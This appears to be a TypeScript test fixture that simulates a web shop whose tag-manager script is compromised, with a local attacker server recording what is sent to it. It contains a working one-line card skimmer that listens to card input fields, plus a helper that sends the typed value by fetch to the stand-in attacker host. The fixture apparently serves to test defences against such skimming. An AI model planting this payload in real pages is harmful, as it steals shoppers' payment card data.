import { once } from 'node:events'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A tenant's web shop, its tag manager and the attacker's host: three origins on this machine. */
export interface AttackedShop {
  /** `http://localhost:…`, registered as the tenant's site. */
  origin: string
  /** Another host to the browser, where stolen data goes. */
  attacker: string
  /** What the shop puts into each page's head: the tag of the widget. */
  tag: string
  /** Headers of its pages. */
  headers: Record<string, string>
  /** The tag manager's script as this visitor gets it. */
  tagManager: (asked: { page: string; userAgent: string }) => string
  /** What reached the attacker. */
  stolen: { at: number; method: string; url: string; body: string }[]
  /** Page views that were served. */
  served: { at: number; page: string; userAgent: string }[]
  close(): Promise<void>
}

/** Typed into the payment page by every visitor; from a range that card networks keep for tests. */
export const typedCard = '4111111111111111'

/**
 * Reads what is typed into the card field and sends it away at every key: the whole of the attack of 2017 in one line.
 * @param send an expression that sends the string `d`.
 */
export function skimmer(send: string): string {
  return `;document.addEventListener('input',e=>{if(/card/.test(e.target.name||'')){const d=e.target.value;${send}}},true);`
}

export function fetchTo(attacker: string): string {
  return `fetch(${JSON.stringify(`${attacker}/?d=`)}+encodeURIComponent(d),{mode:'no-cors'}).catch(()=>0)`
}

const harmless = 'document.documentElement.dataset.tags = "on"'

export async function openAttackedShop(now: () => number = Date.now): Promise<AttackedShop> {
  const attacker = createServer((request, response) => {
    void textOf(request).then((body) => {
      shop.stolen.push({ at: now(), method: request.method!, url: request.url!, body })
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
    })
  })
  const site = createServer((request, response) => {
    const { pathname } = new URL(request.url!, 'http://shop')
    const userAgent = request.headers['user-agent'] ?? ''
    if (pathname === '/tags.js') {
      const page = new URL(request.headers.referer ?? 'http://shop/').pathname
      response.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' })
      response.end(shop.tagManager({ page, userAgent }))
      return
    }
    const page = pages[pathname]
    if (page === undefined) {
      response.writeHead(404).end()
      return
    }
    shop.served.push({ at: now(), page: pathname, userAgent })
    response.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      ...shop.headers,
    })
    response.end(document(page, shop.tag))
  })
  await Promise.all([attacker, site].map(listening))
  const shop: AttackedShop = {
    origin: `http://localhost:${portOf(site)}`,
    attacker: `http://127.0.0.1:${portOf(attacker)}`,
    tag: '',
    headers: {},
    tagManager: () => harmless,
    stolen: [],
    served: [],
    async close() {
      for (const server of [attacker, site]) {
        server.closeAllConnections()
        await new Promise((resolve) => server.close(resolve))
      }
    },
  }
  return shop
}

/** Whether anything of the card reached the attacker. */
export function cardStolen(shop: AttackedShop): boolean {
  return shop.stolen.some(({ url, body }) => decodeURIComponent(url + body).includes(typedCard))
}

const pages: Record<string, string> = {
  '/': '<h1>Boots and coats</h1><p><a href="/checkout">To the checkout</a>',
  '/product': '<h1>Walking boots</h1><p>Seven sizes.',
  '/checkout':
    '<h1>Checkout</h1><form><label>Card number <input name="card-number" autocomplete="cc-number"></label><label>Security code <input name="cvc"></label></form>',
}

function document(main: string, tag: string): string {
  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Shop</title><script src="/tags.js"></script>${tag}<main>${main}</main></html>`
}

async function listening(server: Server): Promise<void> {
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
}

const portOf = (server: Server): number => (server.address() as AddressInfo).port

async function textOf(request: IncomingMessage): Promise<string> {
  let text = ''
  for await (const chunk of request.setEncoding('latin1')) text += chunk as string
  return text
}
